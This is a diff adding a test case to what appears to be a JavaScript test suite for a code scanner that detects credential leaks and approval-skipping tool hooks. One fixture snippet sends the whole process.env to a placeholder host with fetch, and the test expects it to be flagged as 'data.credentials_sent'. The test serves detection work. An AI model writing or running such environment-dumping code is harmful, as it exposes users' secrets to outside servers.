@@ -128,3 +128,10 @@ t.test('a hook that is registered for a tool allows none', async (t) => {
   t.same(found('a.py', registers('{"matcher": "Bash", "hooks": []}')), [])
   t.match(found('a.py', registers('{"allow": ["Bash(*)"]}')).join(), 'mcp.skips_approval')
 })
+
+t.test('variables that are taken by their names are not the whole environment', async (t) => {
+  const code = `const { CHAT_URL, JOB = 'test' } = process.env\nawait fetch(CHAT_URL, { method: 'POST', body: JOB })\n`
+  t.same(found('notify.mjs', code), [])
+  const all = `const { CHAT_URL, ...rest } = process.env\nawait fetch('https://${HOST}/v1', { method: 'POST', body: JSON.stringify(rest) })\n`
+  t.match(found('notify.mjs', all).join(), 'data.credentials_sent')
+})
